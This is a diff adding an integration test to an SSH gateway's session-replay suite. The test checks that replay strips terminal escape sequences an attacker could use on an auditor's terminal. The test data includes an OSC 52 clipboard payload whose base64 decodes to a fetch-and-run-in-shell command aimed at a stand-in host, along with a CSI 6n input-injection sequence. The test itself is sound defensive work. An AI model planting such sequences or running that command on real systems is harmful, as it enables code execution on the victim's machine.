@@ -79,6 +79,23 @@ class GatewayShellIT extends GatewayTest {
         assertThat(r.stdout()).contains("shell-it-seed");
     }
 
+    /**
+     * Threat: a user records output that acts on the auditor's terminal when it is replayed: OSC 52
+     * sets the auditor's clipboard (a command to paste), CSI 6n makes the terminal type an answer
+     * into the auditor's input. Replay (over SSH and on the gateway host) shows the text, not those.
+     */
+    @Test
+    void replayDropsSequencesThatActOnTheAuditorsTerminal() {
+        gw.ssh(gw.alice(), Gateway.TARGET, "printf 'replay-osc-seed\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007 shown-text\\033[6n done\\n'")
+                .requireSuccess();
+        String id = Json.text(gw.awaitEndedSession("replay-osc-seed"), "id");
+        for (Proc.Result r : List.of(gw.ssh(gw.carol(), "carol", "replay " + id).requireSuccess(),
+                gw.cli("replay", id, "--speed", "1000").requireSuccess())) {
+            assertThat(r.stdout()).as(r.describe()).contains("shown-text").contains("done")
+                    .doesNotContain("\u001b]52").doesNotContain("Y3VybCBldmlsIHwgc2g=").doesNotContain("\u001b[6n");
+        }
+    }
+
     @Test
     void localCliListsSessionsNewestFirst() {
         gw.ssh(gw.alice(), Gateway.TARGET, "echo newer-session").requireSuccess();
